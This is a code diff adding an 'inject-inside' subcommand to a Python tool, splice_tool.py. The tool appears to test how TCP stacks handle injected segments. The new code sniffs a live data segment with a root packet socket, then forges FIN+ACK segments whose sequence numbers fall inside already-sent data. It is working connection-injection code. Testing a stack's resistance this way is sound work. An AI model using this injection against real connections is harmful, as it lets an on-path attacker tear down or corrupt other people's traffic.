@@ -59,6 +59,11 @@
       Blind injection (raw socket, root): for each flag letter (R RST,
       S SYN, F FIN+ACK), N segments with that 4-tuple and sequence numbers
       spread over the whole 32-bit space.
+  splice_tool.py inject-inside --src IP:PORT --dst IP:PORT --dev DEV --count N [--timeout S]
+      An attacker who sees the sender's segments (packet socket on DEV,
+      root): waits up to S seconds (default 30) for a data segment from
+      src to dst, then sends N FIN+ACKs with its ACK and sequence numbers
+      just past its first byte, inside data already sent.
 """
 import argparse
 import errno
@@ -450,6 +455,40 @@ def inject(args):
     return 0
 
 
+def inject_inside(args):
+    (src, sport), (dst, dport) = [(a.rsplit(":", 1)[0], int(a.rsplit(":", 1)[1]))
+                                  for a in (args.src, args.dst)]
+    want = (socket.inet_aton(src), socket.inet_aton(dst), sport, dport)
+    # ETH_P_ALL: only such packet sockets see what the host sends.
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))
+    sniff.bind((args.dev, 0))
+    sniff.settimeout(1)
+    deadline = time.monotonic() + args.timeout
+    while time.monotonic() < deadline:
+        try:
+            ip, addr = sniff.recvfrom(65535)
+        except socket.timeout:
+            continue
+        ihl = (ip[0] & 15) * 4
+        if addr[1] != 0x0800 or len(ip) < ihl + 20 or ip[9] != socket.IPPROTO_TCP:
+            continue
+        tcp = ip[ihl:]
+        sp, dp, seq, ack = struct.unpack("!HHII", tcp[:12])
+        payload = struct.unpack("!H", ip[2:4])[0] - ihl - (tcp[12] >> 4) * 4
+        if (ip[12:16], ip[16:20], sp, dp) == want and payload > 0:
+            break
+    else:
+        print("inject-inside: no data segment %s -> %s seen on %s" % (args.src, args.dst, args.dev),
+              file=sys.stderr)
+        return 1
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    for i in range(args.count):
+        raw.sendto(segment(src, dst, sport, dport, (seq + 1 + i) & 0xffffffff, ack, 0x11), (dst, 0))
+    print("inject-inside: data at seq %u (%d bytes), sent %d FINs from seq %u" %
+          (seq, payload, args.count, (seq + 1) & 0xffffffff))
+    return 0
+
+
 def main():
     p = argparse.ArgumentParser()
     sub = p.add_subparsers(dest="cmd", required=True)
@@ -487,6 +526,12 @@ def main():
     j.add_argument("--flags", default="RSF")
     j.add_argument("--count", type=int, default=64)
     j.add_argument("--seed", type=int, default=1)
+    k = sub.add_parser("inject-inside")
+    k.add_argument("--src", required=True)
+    k.add_argument("--dst", required=True)
+    k.add_argument("--dev", required=True)
+    k.add_argument("--count", type=int, default=8)
+    k.add_argument("--timeout", type=float, default=30)
     e = sub.add_parser("peer")
     e.add_argument("--connect")
     e.add_argument("--listen", type=int)
@@ -508,7 +553,7 @@ def main():
     o.add_argument("--timeout", type=float, default=300)
     args = p.parse_args()
     return {"handoff": handoff, "client": client, "download": download,
-            "peer": peer, "inject": inject, "clients": clients,
+            "peer": peer, "inject": inject, "inject-inside": inject_inside, "clients": clients,
             "hold": hold}[args.cmd](args)
 
 
